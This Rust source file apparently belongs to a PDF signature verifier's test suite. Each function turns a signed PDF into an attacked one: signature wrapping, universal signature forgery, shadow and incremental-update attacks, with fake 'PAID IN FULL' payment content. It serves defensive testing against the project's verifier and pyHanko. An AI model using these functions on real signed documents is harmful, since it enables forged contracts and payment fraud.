//! Incremental-saving, signature-wrapping, universal-signature-forgery and shadow attacks on
//! signed PDFs (Mladenov et al. 2019, Mainka et al. 2021), each a function from a signed file
//! to the attacked one: what `tests/e2e/verify.rs` and the committed corpus
//! (`shared/signing/tests/corpus`, made by `attack-corpus`) feed our verifier and pyHanko.

use lopdf::{dictionary, Document, IncrementalDocument, Object, ObjectId, Stream};

/// A FreeText annotation added to page 1 in a new incremental update: content a signer never
/// saw.
pub fn add_free_text(signed: &[u8]) -> Vec<u8> {
    updated(signed, |update, previous| {
        let page = *previous.get_pages().values().next().expect("page 1");
        let note = update.new_document.add_object(dictionary! {
            "Type" => "Annot",
            "Subtype" => "FreeText",
            "Rect" => vec![100.into(), 600.into(), 400.into(), 650.into()],
            "Contents" => Object::string_literal("Amount: 1,000,000 MNT"),
            "DA" => Object::string_literal("/Helv 12 Tf 0 g"),
        });
        annotate(update, page, note);
    })
}

/// Lists `annotation` among `page`'s annotations in the update.
pub fn annotate(
    update: &mut IncrementalDocument,
    page: lopdf::ObjectId,
    annotation: lopdf::ObjectId,
) {
    update
        .opt_clone_object_to_new_document(page)
        .expect("page copy");
    let page_dict = update
        .new_document
        .get_object_mut(page)
        .and_then(Object::as_dict_mut)
        .expect("page");
    let mut annots = match page_dict.get(b"Annots") {
        Ok(Object::Array(items)) => items.clone(),
        _ => Vec::new(),
    };
    annots.push(Object::Reference(annotation));
    page_dict.set("Annots", annots);
}

/// An incremental update of `signed` that `change` makes (on lopdf's incremental document,
/// whose new objects start past the previous `/Size`).
pub fn updated(signed: &[u8], change: impl FnOnce(&mut IncrementalDocument, &Document)) -> Vec<u8> {
    let document = Document::load_mem(signed).expect("load");
    let mut update = IncrementalDocument::create_from(signed.to_vec(), document.clone());
    let size = document
        .trailer
        .get(b"Size")
        .and_then(Object::as_i64)
        .unwrap_or(0);
    update.new_document.max_id = u32::try_from(size).unwrap_or(0);
    change(&mut update, &document);
    let mut out = Vec::new();
    update.save_to(&mut out).expect("save");
    out
}

/// The trailer's `/Info` pointed at a new dictionary: no signed object changes.
pub fn swap_info(signed: &[u8]) -> Vec<u8> {
    updated(signed, |update, _| {
        let info = update.new_document.add_object(dictionary! {
            "Title" => Object::string_literal("Paid in full"),
        });
        update
            .new_document
            .trailer
            .set("Info", Object::Reference(info));
    })
}

/// The trailer's `/Root` pointed at a copy of the catalog that opens a link when the document
/// is opened (an identical copy changes nothing a reader shows, and pyHanko, comparing
/// content, rightly lets it pass).
pub fn swap_root(signed: &[u8]) -> Vec<u8> {
    updated(signed, |update, previous| {
        let mut catalog = previous.catalog().expect("catalog").clone();
        catalog.set(
            "OpenAction",
            dictionary! {
                "S" => "URI",
                "URI" => Object::string_literal("https://pay.example.invalid/"),
            },
        );
        let copy = update.new_document.add_object(catalog);
        update
            .new_document
            .trailer
            .set("Root", Object::Reference(copy));
    })
}

/// A new, unsigned signature field whose widget covers page 1 with its own appearance: an
/// overlay that looks like a signature field.
pub fn overlay_signature_widget(signed: &[u8]) -> Vec<u8> {
    updated(signed, |update, previous| {
        let page = *previous.get_pages().values().next().expect("page 1");
        let appearance = update.new_document.add_object(lopdf::Stream::new(
            dictionary! {
                "Type" => "XObject",
                "Subtype" => "Form",
                "BBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
            },
            b"1 1 1 rg 0 0 595 842 re f".to_vec(),
        ));
        let widget = update.new_document.add_object(dictionary! {
            "Type" => "Annot",
            "Subtype" => "Widget",
            "FT" => "Sig",
            "T" => Object::string_literal("overlay"),
            "Rect" => vec![0.into(), 0.into(), 595.into(), 842.into()],
            "F" => 4,
            "P" => Object::Reference(page),
            "AP" => dictionary! { "N" => Object::Reference(appearance) },
        });
        annotate(update, page, widget);
        let form = previous
            .catalog()
            .expect("catalog")
            .get(b"AcroForm")
            .and_then(Object::as_reference)
            .expect("an AcroForm object");
        update
            .opt_clone_object_to_new_document(form)
            .expect("form copy");
        let form_dict = update
            .new_document
            .get_object_mut(form)
            .and_then(Object::as_dict_mut)
            .expect("form");
        let mut fields = form_dict
            .get(b"Fields")
            .and_then(Object::as_array)
            .cloned()
            .unwrap_or_default();
        fields.push(Object::Reference(widget));
        form_dict.set("Fields", fields);
    })
}

/// The text field `field` of the sealed document given another value after the seal.
pub fn fill_after_the_last_signature(sealed: &[u8], field: &str) -> Vec<u8> {
    updated(sealed, |update, previous| {
        let field = previous
            .objects
            .iter()
            .find_map(|(id, object)| {
                let dict = object.as_dict().ok()?;
                (dict.get(b"T").ok()? == &Object::string_literal(field)).then_some(*id)
            })
            .expect("the text field");
        update
            .opt_clone_object_to_new_document(field)
            .expect("field copy");
        update
            .new_document
            .get_object_mut(field)
            .and_then(Object::as_dict_mut)
            .expect("field")
            .set("V", Object::string_literal("Chief Executive"));
    })
}

/// The signature-wrapping attack: the signed second range is moved `inject` bytes later, the
/// attacker's bytes sit in the enlarged gap, and a new revision redefines the signature
/// dictionary with a ByteRange pointing at the moved bytes. The digest still matches.
pub fn wrap_signature(signed: &[u8]) -> Vec<u8> {
    let document = Document::load_mem(signed).expect("load");
    let (sig_id, range) = signature_dictionary(signed);
    let contents_hex = signed[range[1] + 1..range[2] - 1].to_vec();
    let (b, c, d) = (range[1], range[2], range[3]);
    let inject = b"\n1 0 obj (the attacker's bytes) endobj\n".to_vec();
    let k = inject.len();
    let mut out = signed[..c].to_vec();
    out.extend_from_slice(&inject);
    out.extend_from_slice(&signed[c..]);

    // The signed file's last cross-reference section (classic), with every offset past the
    // gap moved by `k`.
    let tail = String::from_utf8_lossy(&signed[signed.len().saturating_sub(64)..]).into_owned();
    let last_xref: usize = tail
        .split("startxref")
        .nth(1)
        .and_then(|t| t.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .expect("startxref");
    let section = String::from_utf8_lossy(&signed[last_xref..]).into_owned();
    let mut entries = Vec::new();
    let mut lines = section.lines().skip(1);
    while let Some(line) = lines.next() {
        if line.starts_with("trailer") {
            break;
        }
        let mut parts = line.split_whitespace();
        let (Some(start), Some(count)) = (parts.next(), parts.next()) else {
            break;
        };
        let (start, count): (u32, usize) =
            (start.parse().expect("start"), count.parse().expect("count"));
        for i in 0..count {
            let entry = lines.next().expect("entry");
            let fields: Vec<&str> = entry.split_whitespace().collect();
            let offset: usize = fields[0].parse().expect("offset");
            let shifted = if fields[2] == "n" && offset >= c {
                offset + k
            } else {
                offset
            };
            entries.push((
                start + i as u32,
                format!("{shifted:010} {:0>5} {} \n", fields[1], fields[2]),
            ));
        }
    }
    let trailer = &document.trailer;
    let root = trailer
        .get(b"Root")
        .and_then(Object::as_reference)
        .expect("root");
    // The loaded trailer drops /Prev: read it from the section's own trailer.
    let prev: i64 = section
        .split("/Prev")
        .nth(1)
        .and_then(|t| {
            t.split(|c: char| !c.is_ascii_digit())
                .find(|n| !n.is_empty())
        })
        .and_then(|n| n.parse().ok())
        .expect("prev");
    let size = trailer.get(b"Size").and_then(Object::as_i64).expect("size");

    let dict_at = out.len();
    out.extend_from_slice(
        format!(
            "{} {} obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 {b} {} {d}] /Contents <",
            sig_id.0, sig_id.1, c + k
        )
        .as_bytes(),
    );
    out.extend_from_slice(&contents_hex);
    out.extend_from_slice(b"> >>\nendobj\n");
    entries.retain(|(id, _)| *id != sig_id.0);
    entries.push((sig_id.0, format!("{dict_at:010} {:05} n \n", sig_id.1)));
    entries.sort_by_key(|(id, _)| *id);
    let xref_at = out.len();
    let mut xref = String::from("xref\n");
    for (id, line) in &entries {
        xref.push_str(&format!("{id} 1\n{line}"));
    }
    xref.push_str(&format!(
        "trailer\n<< /Size {size} /Root {} {} R /Prev {prev} >>\nstartxref\n{xref_at}\n%%EOF\n",
        root.0, root.1
    ));
    out.extend_from_slice(xref.as_bytes());
    out
}

/// The offsets of the (first) signature dictionary's `/ByteRange` numbers and `/Contents`
/// string in `signed`: where the forgery variants write.
fn signature_dictionary(signed: &[u8]) -> (ObjectId, Vec<usize>) {
    let document = Document::load_mem(signed).expect("load");
    document
        .objects
        .iter()
        .find_map(|(id, object)| {
            let dict = object.as_dict().ok()?;
            let range: Vec<usize> = dict
                .get(b"ByteRange")
                .ok()?
                .as_array()
                .ok()?
                .iter()
                .filter_map(|o| o.as_i64().ok())
                .map(|v| v as usize)
                .collect();
            Some((*id, range))
        })
        .expect("a signature dictionary")
}

/// Universal signature forgery (USF): a later revision redefines the signature dictionary
/// with `replace`'s version of its entries, so a validator that skips what is missing or
/// empty may call the file signed.
fn forged(signed: &[u8], replace: impl FnOnce(&mut lopdf::Dictionary)) -> Vec<u8> {
    let (id, _) = signature_dictionary(signed);
    updated(signed, |update, previous| {
        let mut dict = previous.get_dictionary(id).expect("signature").clone();
        replace(&mut dict);
        update
            .new_document
            .objects
            .insert(id, Object::Dictionary(dict));
    })
}

/// USF: the signature dictionary without `/ByteRange`.
pub fn usf_without_byte_range(signed: &[u8]) -> Vec<u8> {
    forged(signed, |dict| {
        dict.remove(b"ByteRange");
    })
}

/// USF: `/ByteRange [0 0 0 0]`, signing nothing.
pub fn usf_empty_byte_range(signed: &[u8]) -> Vec<u8> {
    forged(signed, |dict| {
        dict.set("ByteRange", vec![0.into(), 0.into(), 0.into(), 0.into()]);
    })
}

/// USF: an empty `/Contents`, no signature at all.
pub fn usf_empty_contents(signed: &[u8]) -> Vec<u8> {
    forged(signed, |dict| {
        dict.set(
            "Contents",
            Object::String(Vec::new(), lopdf::StringFormat::Hexadecimal),
        );
    })
}

/// USF: `/Contents` replaced by `null`.
pub fn usf_null_contents(signed: &[u8]) -> Vec<u8> {
    forged(signed, |dict| {
        dict.set("Contents", Object::Null);
    })
}

/// An incremental update appended without its `%%EOF` marker: a full revision (objects,
/// cross-reference section, trailer, startxref) that changes page 1's content.
pub fn update_without_eof(signed: &[u8]) -> Vec<u8> {
    let attacked = add_free_text(signed);
    let cut = attacked
        .windows(5)
        .rposition(|w| w == b"%%EOF")
        .expect("%%EOF");
    attacked[..cut].to_vec()
}

/// A copy of `pdf` (unsigned) with an extra, unused content stream saying "Paid in full":
/// the shadow a later update brings forward. Its id is returned.
pub fn with_shadow_content(pdf: &[u8]) -> (Vec<u8>, ObjectId) {
    let mut document = Document::load_mem(pdf).expect("load");
    let shadow = document.add_object(Stream::new(
        dictionary! {},
        b"BT /F1 28 Tf 72 700 Td (PAID IN FULL) Tj ET".to_vec(),
    ));
    let mut out = Vec::new();
    document.save_to(&mut out).expect("save");
    (out, shadow)
}

/// Shadow attack, hide-and-replace: after signing, an update points page 1's `/Contents` at
/// the shadow stream that was in the signed file all along (no new content object).
pub fn shadow_replace_page_content(signed: &[u8], shadow: ObjectId) -> Vec<u8> {
    updated(signed, |update, previous| {
        let page = *previous.get_pages().values().next().expect("page 1");
        update
            .opt_clone_object_to_new_document(page)
            .expect("page copy");
        update
            .new_document
            .get_object_mut(page)
            .and_then(Object::as_dict_mut)
            .expect("page")
            .set("Contents", Object::Reference(shadow));
    })
}

/// Shadow attack, replace: after signing, an update redefines an object the signed revision
/// already had (the shadow stream, under the same number) with other content.
pub fn shadow_redefine_object(signed: &[u8], shadow: ObjectId) -> Vec<u8> {
    updated(signed, |update, _| {
        update.new_document.objects.insert(
            shadow,
            Object::Stream(Stream::new(
                dictionary! {},
                b"BT /F1 28 Tf 72 700 Td (PAID TWICE) Tj ET".to_vec(),
            )),
        );
    })
}

/// One byte of the first signed range flipped.
pub fn flip_a_signed_byte(signed: &[u8]) -> Vec<u8> {
    let (_, range) = signature_dictionary(signed);
    let mut flipped = signed.to_vec();
    flipped[range[1] / 2] ^= 0x01;
    flipped
}

/// The whole signed file rewritten by lopdf (no incremental update).
pub fn full_rewrite(signed: &[u8]) -> Vec<u8> {
    let mut document = Document::load_mem(signed).expect("load");
    let mut full = Vec::new();
    document.save_to(&mut full).expect("rewrite");
    full
}

/// Bytes after the last revision that no revision accounts for.
pub fn bytes_after_the_last_revision(signed: &[u8]) -> Vec<u8> {
    let mut garbage = signed.to_vec();
    garbage.extend_from_slice(b"\n% trailing bytes no revision accounts for\n1 0 obj (x) endobj\n");
    garbage
}
